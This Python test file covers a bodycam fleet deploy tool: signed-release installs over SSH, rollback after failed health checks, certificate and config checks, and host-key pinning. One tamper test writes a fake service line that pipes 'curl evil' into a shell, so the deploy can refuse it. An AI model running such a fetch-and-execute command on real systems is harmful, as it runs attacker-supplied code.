"""bodycam deploy of signed releases into --prefix sandboxes over a real sshd: the tree, the modes, the
service's own health report, the switch between releases and the rollback of one that fails."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import sys
import threading
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from office.cli import main
from station.models import Device
from station.mqtt_broker import camera_files
from station.mqtt_pki import certificate_authority, issue
from station.store import Store
from storage.keys import create_agency_keys, create_signing_key, key_id, load_device_key, load_device_public
from tests.releases import stop_sandbox_service
from tests.sshd import SshServer
from tests.test_station_mqtt import _camera


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@dataclass
class Camera:
    """A sandboxed camera reached over sshd, the office's keys and a fleet config."""

    sshd: SshServer
    release_pub: Path
    prefix: Path
    office: Path
    config: Path

    def argv(self, release: Path, *extra: str, trust: bool = True) -> list[str]:
        return ["deploy", self.sshd.host, "--user", self.sshd.user, "--port", str(self.sshd.port), "--identity",
                str(self.sshd.identity), "--known-hosts", str(self.sshd.known_hosts), "--release", str(release),
                *(["--release-pub", str(self.release_pub)] if trust else []), "--agency-pub",
                str(self.office / "agency.pub"), "--config", str(self.config), "--prefix", str(self.prefix),
                "--sandbox", "--python", sys.executable, *extra]

    def deploy(self, release: Path, *extra: str) -> int:
        return main(self.argv(release, *extra))


@pytest.fixture
def camera(sshd, releases, tmp_path):
    """The camera; the service a deploy started there is stopped afterwards."""
    create_agency_keys(tmp_path / "office")
    config = tmp_path / "config.toml"
    config.write_text('# the fleet config\n[device]\nid = "cam-07"\n')
    device = Camera(sshd, releases.pub, tmp_path / "device-root", tmp_path / "office", config)
    yield device
    stop_sandbox_service(device.prefix)


def health(prefix: Path) -> dict:
    return json.loads((prefix / "run/bodycam/health.json").read_text())


def test_deploy_installs_a_signed_release_the_service_reports_healthy_and_a_rerun_changes_nothing(
        camera, releases, tmp_path, capsys):
    deploy, prefix, office, config = camera.deploy, camera.prefix, camera.office, camera.config
    store = Store.init(tmp_path / "station")
    boot = prefix / "boot/firmware/config.txt"
    boot.parent.mkdir(parents=True)
    boot.write_text("[all]\ndtparam=audio=on\n#dtparam=spi=on\n")  # as Raspberry Pi OS ships it
    assert deploy(releases.old.folder, "--store", str(store.root)) == 0
    first = capsys.readouterr().out
    assert ("changed: release-key, firmware, data-dir, agency-key, station-key, device-key, assignment-dir, "
            "offload-key, boot-config, modules, alsa-config, config, unit, power-off-rule") in first, first
    rule = (prefix / "etc/polkit-1/rules.d/50-bodycam-power-off.rules").read_text()
    assert 'subject.user === "bodycam"' in rule and "org.freedesktop.login1.power-off" in rule
    assert boot.read_text().endswith("#dtparam=spi=on\n# bodycam: display (SPI), fuel gauge (I2C), speaker and "
                                     "microphone\ndtparam=spi=on\ndtparam=i2c_arm=on\n"
                                     "dtoverlay=googlevoicehat-soundcard\n")
    assert (prefix / "etc/modules-load.d/bodycam.conf").read_text() == "i2c-dev\n"
    assert 'slave.pcm "hw:sndrpigooglevoi"' in (prefix / "etc/asound.conf").read_text()
    assert "the boot config changed (SPI, I2C, sound overlays): rebooting the camera" in first
    assert "rebooted; the boot config is in effect" in first
    assert (prefix / "run/boot_id").exists() and not (prefix / "opt/bodycam/pending-reboot.json").exists()
    assert f"healthy: the service reports {releases.old.version} running" in first
    data = prefix / "var/lib/bodycam"
    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.old.version}"
    assert (prefix / "opt/bodycam/current/venv/bin/bodycam").exists()
    assert "ExecStart=/opt/bodycam/current/venv/bin/bodycam run" in (
        prefix / "etc/systemd/system/bodycam.service").read_text()
    assert (prefix / "etc/bodycam/config.toml").read_text() == config.read_text(), "without --set: as written"
    assert (prefix / "etc/bodycam/release.pub").read_bytes() == releases.pub.read_bytes()
    assert mode(data) == 0o750 and mode(data / "keys") == 0o700 and mode(data / "keys/device.key") == 0o600
    assert mode(data / "assignment") == 0o770, "the offload user's assignment session writes there"
    assert (data / "keys/agency.pub").read_bytes() == (office / "agency.pub").read_bytes()
    assert not (data / "keys/agency.key").exists(), "the agency private key never goes to a device"
    assert (data / "keys/station.pub").read_bytes() == store.station_pub_path.read_bytes()
    report = health(prefix)
    assert report["version"] == releases.old.version and report["stage"] == "worn"
    assert report["pid"] == int((prefix / "run/bodycam.pid").read_text()), "written by the running service"
    device_key = key_id(load_device_public(data / "keys/device.pub"))
    registered = store.db.query(Device).get(key_id=device_key)
    assert registered.name == "cam-07", "named by its device.id"
    assert registered.port == camera.sshd.port and registered.firmware_version == releases.old.version
    assert registered.host_key.split()[0] == "ssh-ed25519"
    assert registered.ssh_user == camera.sshd.user, "the sandbox's offload user: the user the installer runs as"
    station_ssh = store.ssh_identity.with_suffix(".pub").read_text().strip()
    assert (prefix / "var/lib/bodycam-offload/.ssh/authorized_keys").read_text() == (
        f'restrict,command="{prefix}/opt/bodycam/current/venv/bin/bodycam offload-gate --data-dir {data}" '
        f"{station_ssh}\n"), "the station's key runs the offload gate, nothing else"

    key_before = (data / "keys/device.key").read_bytes()
    pid_before = report["pid"]
    assert deploy(releases.old.folder, "--store", str(store.root)) == 0
    again = capsys.readouterr().out
    assert "no changes" in again and "reboot" not in again
    assert (data / "keys/device.key").read_bytes() == key_before, "the device key is kept"
    assert health(prefix)["pid"] == pid_before, "nothing changed: the service was not restarted"

    camera_files(store, registered, tmp_path / "cam-07-mqtt", datetime.now(UTC), "test")
    assert deploy(releases.old.folder, "--store", str(store.root), "--control-room", str(tmp_path / "cam-07-mqtt")) == 0
    assert "changed: control-room-certificate\n" in capsys.readouterr().out
    for name in ("mqtt.pem", "mqtt-ca.pem", "mqtt.key"):
        assert (data / "keys" / name).read_bytes() == (tmp_path / "cam-07-mqtt" / name).read_bytes()
    assert mode(data / "keys/mqtt.key") == 0o600 and not (data / "keys/mqtt.key.previous").exists()


def test_a_new_release_replaces_the_running_one_and_one_that_fails_its_health_check_is_rolled_back(
        camera, releases, capsys):
    deploy, prefix, config = camera.deploy, camera.prefix, camera.config
    assert deploy(releases.old.folder) == 0
    # The new release with a per-camera value that makes this camera's service shut down at once (its
    # simulated battery is flat): it never reports healthy, so the old release and config come back.
    code = deploy(releases.new.folder, "--set", "sim.battery_percent=1")
    out, err = capsys.readouterr()
    assert code == 3, out + err
    assert f"bodycam {releases.new.version} failed its health check (the service stopped); rolled back to " \
           f"{releases.old.version}, and the service is healthy again" in err, err
    assert '"reason": "battery-critical"' in err, "the service's own last words"
    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.old.version}"
    assert (prefix / "etc/bodycam/config.toml").read_text() == config.read_text()
    assert health(prefix)["version"] == releases.old.version

    assert deploy(releases.new.folder, "--set", "device.id=cam-08") == 0
    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.new.version}"
    assert health(prefix)["version"] == releases.new.version
    assert 'id = "cam-08"' in (prefix / "etc/bodycam/config.toml").read_text()
    kept = sorted(p.name for p in (prefix / "opt/bodycam/releases").iterdir())
    assert kept == sorted([releases.old.version, releases.new.version]), "the last two releases are kept"


def test_a_camera_refuses_an_altered_release_and_one_signed_by_another_key(camera, releases, tmp_path, capsys):
    deploy, prefix = camera.deploy, camera.prefix
    altered = tmp_path / "altered"
    shutil.copytree(releases.old.folder, altered)
    (altered / "bodycam.service").write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
    assert deploy(altered) == 1
    assert "bodycam.service: altered since the release was signed" in capsys.readouterr().err

    assert deploy(releases.old.folder) == 0
    capsys.readouterr()
    other = create_signing_key(tmp_path / "other", "release")
    code = main(["deploy", "127.0.0.1", "--release", str(releases.old.folder), "--release-pub", str(other),
                 "--config", str(tmp_path / "config.toml")])
    assert code == 1 and "not a signature of the trusted release key" in capsys.readouterr().err
    # Past the laptop's check (no --release-pub given): the camera checks with the key it trusts.
    foreign = tmp_path / "foreign"
    shutil.copytree(releases.old.folder, foreign)
    (foreign / "release.sig").write_bytes(load_device_key(other.with_suffix(".key")).sign(
        (foreign / "release.json").read_bytes()))
    assert main(camera.argv(foreign, trust=False)) == 1
    assert "not a signature of the release key this camera trusts" in capsys.readouterr().err
    assert os.readlink(prefix / "opt/bodycam/current") == f"releases/{releases.old.version}"


def test_deploy_to_a_device_that_never_answers_stops_at_once_with_what_to_check(releases, tmp_path, capsys):
    """A host that accepts TCP but never speaks SSH (a device mid-boot, a wrong address): deploy gives up
    after --connect-timeout, before copying anything, instead of hanging."""
    config = tmp_path / "config.toml"
    config.write_text("")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    accepted: list[socket.socket] = []
    threading.Thread(target=lambda: accepted.append(listener.accept()[0]), daemon=True).start()
    try:
        code = main(["deploy", "127.0.0.1", "--port", str(listener.getsockname()[1]), "--connect-timeout", "2",
                     "--release", str(releases.old.folder), "--config", str(config),
                     "--prefix", str(tmp_path / "device-root")])
    finally:
        listener.close()
    assert code != 0
    err = capsys.readouterr().err
    assert "cannot reach the device over SSH: no answer within 2 s: is the device switched on" in err, err
    assert "Traceback" not in err


def test_deploy_refuses_a_broker_certificate_of_another_camera_or_station_before_reaching_the_camera(
        releases, tmp_path, capsys):
    store, at = Store.init(tmp_path / "station"), datetime.now(UTC)
    camera_files(store, _camera(store, "cam-08"), tmp_path / "cam-08", at, "test")
    mixed, foreign = tmp_path / "mixed", tmp_path / "foreign"
    camera_files(store, _camera(store, "cam-07"), mixed, at, "test")
    shutil.copytree(mixed, foreign)
    shutil.copy(tmp_path / "cam-08" / "mqtt.key", mixed / "mqtt.key")
    (tmp_path / "elsewhere").mkdir()
    elsewhere = issue(certificate_authority(tmp_path / "elsewhere", at), "cam-07", at)
    (foreign / "mqtt.pem").write_bytes(elsewhere.cert_pem)
    (foreign / "mqtt.key").write_bytes(elsewhere.key_pem)
    huge = tmp_path / "huge"
    shutil.copytree(mixed, huge)
    (huge / "mqtt.pem").write_bytes(b"-" * (64 * 1024 + 1))
    config = tmp_path / "config.toml"
    config.write_text('[device]\nid = "cam-07"\n')
    for folder, why in (("cam-08", "mqtt.pem: issued to 'cam-08', not to 'cam-07'"),
                        ("huge", "mqtt.pem: larger than 65536 bytes"),
                        ("foreign", "mqtt.pem: not issued by"), ("mixed", "mqtt.key: not the key of"),
                        ("nothing", "mqtt.pem: No such file or directory")):
        code = main(["deploy", "192.0.2.1", "--release", str(releases.old.folder), "--config", str(config),
                     "--control-room", str(tmp_path / folder)])
        err = capsys.readouterr().err
        assert code != 0 and why in err and "Traceback" not in err, err


def test_deploy_checks_the_config_with_its_per_camera_values_before_reaching_the_camera(releases, tmp_path, capsys):
    config = tmp_path / "config.toml"
    config.write_text("[camera]\nfps = 30\n")
    code = main(["deploy", "192.0.2.1", "--release", str(releases.old.folder), "--config", str(config),
                 "--set", "camera.fps=300"])
    assert code == 2
    assert "camera.fps must be between 1 and 60, got 300" in capsys.readouterr().err


def test_enrol_pins_a_new_cameras_host_key_only_when_the_fingerprint_matches(sshd, tmp_path, capsys):
    import subprocess

    host_pub = sshd.known_hosts.read_text().split()[1:3]
    printed = subprocess.run(["ssh-keygen", "-lf", "-"], input=" ".join(host_pub) + "\n", capture_output=True,
                             text=True, check=True).stdout
    fingerprint = printed.split()[1]
    known_hosts = tmp_path / "known_hosts"
    enrol = ["enrol", sshd.host, "--port", str(sshd.port), "--known-hosts", str(known_hosts)]
    assert main([*enrol, "--fingerprint", "SHA256:somethingElse"]) == 1
    assert f"the host key is {fingerprint}, not the SHA256:somethingElse" in capsys.readouterr().err
    assert not known_hosts.exists()
    assert main([*enrol]) == 1, "no terminal to confirm on: nothing is taken on trust"
    assert main([*enrol, "--fingerprint", fingerprint]) == 0
    assert known_hosts.read_text().split()[1:3] == host_pub
    assert main([*enrol, "--fingerprint", fingerprint]) == 0
    assert "already known with this host key" in capsys.readouterr().out
    known_hosts.write_text(f"[{sshd.host}]:{sshd.port} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE+other+key+of+a+card+\n")
    assert main([*enrol, "--fingerprint", fingerprint]) == 1
    assert "known under ANOTHER host key" in capsys.readouterr().err


def test_deploy_names_the_parts_a_healthy_camera_runs_without(capsys):
    """After a first deploy with --no-reboot on a fresh card, the display and gauge wait for a reboot by hand:
    the technician is told, the deploy still counts as healthy (the camera records)."""
    import argparse

    from fleet.deploy import _report

    result = {"status": "ok", "changed": ["boot-config"], "reboot_needed": True, "device_pub": "",
              "health": {"version": "1", "faults": {"display": "DeviceNotFoundError: SPI device not found"}}}
    assert _report(argparse.Namespace(host="cam-017"), "cam-017", None, "1", result) == 0
    out = capsys.readouterr().out
    assert "cam-017: SPI, I2C and the sound overlays switched on in the boot config: reboot the camera" in out
    assert "cam-017: the camera records, but without its display: DeviceNotFoundError: SPI device not found" in out


def test_a_camera_that_does_not_come_back_from_its_reboot_is_named_with_what_to_do(monkeypatch):
    """ssh fails (exit 255) until the reboot timeout: an error that says the release waits for the boot."""
    import argparse
    import subprocess

    from fleet import deploy
    from fleet.deploy import DeployError, _reboot_and_resume

    calls: list[str] = []

    def run(command, **kwargs):
        calls.append(command[-1])
        if "--reboot-now" in command[-1]:
            return subprocess.CompletedProcess(command, 0, '{"status": "rebooting"}\n', "")
        return subprocess.CompletedProcess(command, 255, "", "ssh: connect to host cam-017 port 22: No route")

    monkeypatch.setattr(deploy.subprocess, "run", run)
    now = [0.0]
    args = argparse.Namespace(host="cam-017", reboot_timeout=30.0)
    with pytest.raises(DeployError, match=r"cam-017: the camera did not come back within 30 s of its reboot; "
                                          "the release is installed and starts at boot"):
        _reboot_and_resume(args, ["ssh", "cam-017"], ["python3", "install.py"], clock=lambda: now[0],
                           sleep=lambda s: now.__setitem__(0, now[0] + s))
    assert sum("--resume" in c for c in calls) == 15, "every 2 s for 30 s"
